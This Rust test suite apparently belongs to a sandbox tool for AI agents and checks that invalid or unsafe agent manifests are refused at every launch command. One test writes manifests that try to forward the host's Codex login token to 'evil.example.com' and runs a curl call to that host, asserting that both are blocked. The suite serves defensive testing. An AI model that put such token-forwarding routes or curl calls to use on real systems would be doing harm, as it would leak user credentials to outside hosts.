//! What is refused is refused through every door: each rule's own bad example, by itself, through an
//! agent, through a child and under a comment that would silence it, at each command that makes a plan.

use crate::cases::{cases, files, judged, silenced};
use crate::rig::{CLEAN, Project};
use bot_bottle::check::{Group, Matter, rules};
use bot_bottle::check::{Rule, page};

/// Each command that makes a plan; `{}` stands for the manifest.
const DOORS: [&[&str]; 6] = [
    &["plan", "{}"],
    &["launch", "{}", "--dry-run"],
    &["launch", "{}", "--task", "x"],
    &["exec", "{}", "--", "true"],
    &["can", "{}", "GET", "https://api.github.com/"],
    &["trust", "{}"],
];

/// Tries every door, and gives how many were tried.
fn refused(project: &Project, target: &str, what: &str) -> usize {
    for door in DOORS {
        let args: Vec<_> = door.iter().map(|a| if *a == "{}" { target } else { a }).collect();
        let ran = project.run(&args);
        assert!(ran.code != 0, "{what}: {args:?} went through\n{}{}", ran.out, ran.err);
        assert!(ran.err.contains("error"), "{what}: {args:?} says nothing\n{}", ran.err);
        assert!(!ran.out.contains("stages\n"), "{what}: {args:?} shows an outline\n{}", ran.out);
    }
    DOORS.len()
}

#[test]
fn every_rule_of_level_error_refuses_through_every_door() {
    let mut tried = 0;
    for case in cases() {
        let all: Vec<_> = case.files.iter().map(|(p, t)| (p.as_str(), t.as_str())).collect();
        let project = Project::new(&all);
        let file = project.path(&case.file).display().to_string();
        let target = case.name.iter().fold(file, |file, name| format!("{file}#{name}"));
        tried += refused(&project, &target, &case.what);
    }
    println!("{tried} doors tried");
    assert!(tried > 500, "{tried}");
}

/// What judgement allows is launched, and whoever launches it is told what somebody silenced.
#[test]
fn what_judgement_silences_is_named() {
    let mut tried = 0;
    let judgement =
        |r: &&Rule| r.matter == Matter::Judgement && !matches!(r.group, Group::Upkeep | Group::Editor);
    for rule in rules::all().iter().filter(judgement) {
        let files = files(&page(rule).bad);
        let (source, findings) = judged(&files);
        let others = findings.iter().any(|f| f.rule != rule);
        // A finding about the whole file stands where no comment can be.
        if others || findings.iter().any(|f| f.span.start == 0 && source.text.starts_with("---")) {
            continue;
        }
        let (path, text) = files.last().expect("a file").clone();
        let all: Vec<_> = files.iter().map(|(p, t)| (p.as_str(), t.as_str())).collect();
        let project = Project::new(&all);
        project.write(&path, silenced(&text, &findings, rule));
        let target = project.path(&path).display().to_string();
        let ran = project.check(&[&target]).expect(0);
        assert!(ran.out.contains(" silenced by a comment"), "{}: {}", rule.id, ran.out);
        // What this machine lacks for a launch is another matter.
        let ran = project.run(&["launch", &target, "--dry-run", "--backend", "bubblewrap"]);
        assert!(ran.out.contains(&format!("silenced     {} at ", rule.id)), "{}: {}", rule.id, ran.out);
        tried += 1;
    }
    println!("{tried} judgements named");
    assert!(tried >= 3, "{tried}");
}

/// The host's Codex login goes by a name, and no manifest gets at it with that name.
#[test]
fn the_name_of_the_hosts_login_is_nobodys() {
    // A stand-in for every host that the manifests name. What connects waits there to be seen.
    let upstream = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
    upstream.set_nonblocking(true).expect("nonblocking");
    let to = upstream.local_addr().expect("an address");
    let hosts = ["evil.example.com", "a.example.com", "api.anthropic.com", "chatgpt.com", "api.openai.com"];
    let resolve = hosts.map(|host| format!("  - {host}:443:{to}\n")).concat();
    let config = format!("backend: bubblewrap\nresolve:\n{resolve}");
    let token = ["not", "a", "real", "login"].join("-");
    let login = format!("{{\"tokens\":{{\"access_token\":\"{token}\",\"account_id\":\"a\"}}}}");
    for name in [
        "BOT_BOTTLE_CODEX_HOST_ACCESS_TOKEN",
        "bot_bottle_codex_x",
        "\" BOT_BOTTLE_CODEX_HOST_ACCESS_TOKEN\"",
    ] {
        let route = format!("- host: evil.example.com\n      auth: {{scheme: Bearer, token_ref: {name}}}");
        let texts = [
            format!("egress:\n  routes:\n    {route}\n"),
            format!("agent_provider: {{template: codex}}\negress:\n  routes:\n    {route}\n"),
            format!(
                "agent_provider: {{template: codex, forward_host_credentials: true}}\negress:\n  routes:\n    {route}\n"
            ),
            format!("agent_provider: {{template: claude, auth_token: {name}}}\n"),
            format!(
                "x-name: &n {name}\negress:\n  routes:\n    - host: a.example.com\n      auth: {{scheme: Bearer, token_ref: *n}}\n"
            ),
            format!("env: {{A: \"${{{}}}\"}}\n", name.trim_matches('"').trim()),
        ];
        for text in texts {
            let project = Project::new(&[
                ("dev.bottle.yaml", &text),
                ("child.bottle.yaml", "extends: dev\n"),
                ("fix.agent.yaml", "bottle: dev\nprompt: x\n"),
                ("~/.config/bot-bottle/config.yaml", &config),
                ("~/.codex/auth.json", &login),
            ]);
            let ran = project.check(&["--format", "concise"]).expect(1);
            assert!(ran.out.contains("invalid-token-ref"), "{text}\n{}", ran.out);
            for target in ["dev.bottle.yaml", "child.bottle.yaml", "fix.agent.yaml"] {
                refused(&project, target, &text);
                let asks = ["exec", target, "--", "curl", "-sk", "https://evil.example.com/"];
                let ran = project.run(&asks);
                assert!(ran.code != 0 && !ran.err.contains(&token) && !ran.out.contains(&token), "{text}");
            }
        }
    }
    let seen = upstream.accept().map_err(|e| e.kind());
    assert_eq!(seen.err(), Some(std::io::ErrorKind::WouldBlock), "a host of the manifests was asked");
}

#[test]
fn a_chain_with_a_broken_link_is_refused_up_to_its_end() {
    let project = Project::new(&[
        ("a.bottle.yaml", "extends: b\n"),
        ("b.bottle.yaml", "extends: c\n"),
        (
            "c.bottle.yaml",
            "extends: d\negress:\n  routes:\n    - host: api.github.com\n      role: codex_auth\n",
        ),
        ("d.bottle.yaml", "extends: e\n"),
        ("e.bottle.yaml", CLEAN),
        ("x.agent.yaml", "bottle: a\nprompt: x\n"),
    ]);
    let ran = project.check(&["--format", "concise"]).expect(1);
    let rules: Vec<_> = ran.out.lines().filter(|l| l.contains(".yaml:")).collect();
    assert_eq!(rules.len(), 4, "{}", ran.out);
    for file in ["a.bottle.yaml", "b.bottle.yaml", "x.agent.yaml"] {
        let line = rules.iter().find(|l| l.starts_with(file)).expect("a finding");
        // The first real cause, not the link before.
        assert!(line.contains("broken-bottle") && line.contains("unknown role `codex_auth`"), "{line}");
        refused(&project, file, file);
    }
    for file in ["d.bottle.yaml", "e.bottle.yaml"] {
        project.run(&["plan", file]).expect(0);
    }
    // Mended, everything goes.
    project.write("c.bottle.yaml", "extends: d\n");
    project.run(&["plan", "x.agent.yaml"]).expect(0);
}

#[test]
fn one_document_does_not_stand_in_the_way_of_another() {
    let text = "envv: {}\n---\nname: good\nenv: {A: b}\n---\nname: user\nbottle: good\nprompt: x\n---\nname: bad\nbottle: dev\nprompt: x\n";
    let project = Project::new(&[("dev.bottle.yaml", text)]);
    project.run(&["plan", "dev.bottle.yaml#good"]).expect(0);
    project.run(&["plan", "dev.bottle.yaml#user"]).expect(0);
    for name in ["dev", "bad"] {
        refused(&project, &format!("dev.bottle.yaml#{name}"), name);
    }
    // A syntax error ends the file, and the documents before it are whole.
    project.write("dev.bottle.yaml", "env: {A: b}\n---\nname: other\nenv: [\n");
    project.run(&["plan", "dev.bottle.yaml#dev"]).expect(0);
    project.write("dev.bottle.yaml", "env: {A: b}\nskills: [\n");
    refused(&project, "dev.bottle.yaml", "a syntax error");
}

#[test]
fn two_files_that_break_each_other_end() {
    let bad = |parent: &str| format!("extends: {parent}\nenvv: {{}}\n");
    let project = Project::new(&[
        ("a.bottle.yaml", &bad("b")),
        ("b.bottle.yaml", &bad("a")),
        ("c.bottle.yaml", "extends: a\n"),
    ]);
    for file in ["a.bottle.yaml", "b.bottle.yaml", "c.bottle.yaml"] {
        refused(&project, file, file);
    }
}

#[test]
fn no_comment_silences_the_language_wherever_it_stands() {
    let role = "egress:\n  routes:\n    - host: api.github.com\n      role: x";
    let comments = [
        "ignore[unknown-role] a reason",
        "ignore[*] a reason",
        "ignore[unknown-role, x] a reason",
        "ignore[x, unknown-role] a reason",
        "ignore[Unknown-Role] a reason",
        "ignore[ unknown-role ] a reason",
    ];
    for comment in comments {
        for text in [
            format!("# bot-bottle: {comment}\n{role}\n"),
            format!("{role} # bot-bottle: {comment}\n"),
            role.replace("      role", &format!("      # bot-bottle: {comment}\n      role")) + "\n",
            role.replace("    - host", &format!("    # bot-bottle: {comment}\n    - host")) + "\n",
            format!("{role}\n# bot-bottle: {comment}\n"),
            format!("---\n{role} # bot-bottle: {comment}\n...\n"),
        ] {
            let project = Project::new(&[("dev.bottle.yaml", &text)]);
            let ran = project.check(&["--format", "concise"]).expect(1);
            assert!(
                ran.out.contains("unknown-role") && ran.out.contains("unused-suppression"),
                "{text}{}",
                ran.out
            );
            project.run(&["plan", "dev.bottle.yaml"]).expect(1);
        }
    }
}

/// What is launched is what was looked at: what breaks in between is refused with its findings, and what
/// is mended in between is something else than what was seen.
#[test]
fn what_breaks_or_is_mended_between_the_look_and_the_launch_is_not_launched() {
    let broken = "envv: {A: b}\n";
    let project = Project::new(&[
        ("base.bottle.yaml", CLEAN),
        ("dev.bottle.yaml", "extends: base\n"),
        ("fix.agent.yaml", "bottle: dev\nprompt: x\n"),
    ]);
    let look = project.run(&["launch", "fix.agent.yaml", "--dry-run"]);
    let digest =
        look.out.lines().find_map(|l| l.strip_prefix("digest ")).expect("a digest").trim().to_owned();
    let launch = ["launch", "fix.agent.yaml", "--task", "x", "--digest", &digest];
    for file in ["base.bottle.yaml", "dev.bottle.yaml", "fix.agent.yaml"] {
        let before = project.read(file);
        project.write(file, broken);
        let ran = project.run(&launch).expect(1);
        assert!(ran.err.contains("has no field `envv`"), "{}", ran.err);
        project.write(file, before.clone() + "skills: [review]\n");
        let ran = project.run(&launch).expect(2);
        assert!(ran.err.contains("has changed since it was shown"), "{}", ran.err);
        project.write(file, before);
    }
}

/// Stricter walls than were asked for refuse nobody: it is a warning, which a comment can silence.
#[test]
fn supervise_is_a_warning_and_remotes_are_refused() {
    let project = Project::new(&[("dev.bottle.yaml", &format!("{CLEAN}supervise: true\n"))]);
    let ran = project.check(&["--format", "concise"]).expect(1);
    assert!(ran.out.contains("warning") && ran.out.contains("unsupported"), "{}", ran.out);
    project.check(&["--severity", "error"]).expect(0);
    project.run(&["plan", "dev.bottle.yaml"]).expect(0);
    let silent = "supervise: true # bot-bottle: ignore[unsupported] as the original's files have it\n";
    project.write("dev.bottle.yaml", format!("{CLEAN}{silent}"));
    project.check(&[]).expect(0);
    project.write("base.json", "{\"version\": 1, \"findings\": {\"dev.bottle.yaml\": {\"unsupported\": 1}}}");
    project.write("dev.bottle.yaml", format!("{CLEAN}supervise: true\n"));
    project.check(&["--baseline", "base.json"]).expect(0);
    for text in [format!("{CLEAN}supervise: false\n"), format!("{CLEAN}git: {{remotes: {{}}}}\n")] {
        project.write("dev.bottle.yaml", text);
        project.check(&[]).expect(0);
    }
    let remotes = "git:\n  # bot-bottle: ignore[unsupported] please\n  remotes:\n    git.example.com: {Upstream: \"ssh://git@git.example.com/a.git\"}\n";
    project.write("dev.bottle.yaml", remotes);
    for args in [&["--format", "concise"][..], &["--format", "concise", "--baseline", "base.json"]] {
        let ran = project.check(args).expect(1);
        assert!(ran.out.contains("unsupported") && ran.out.contains("unused-suppression"), "{}", ran.out);
    }
    project.check(&["--severity", "error"]).expect(1);
    refused(&project, "dev.bottle.yaml", "git.remotes");
}
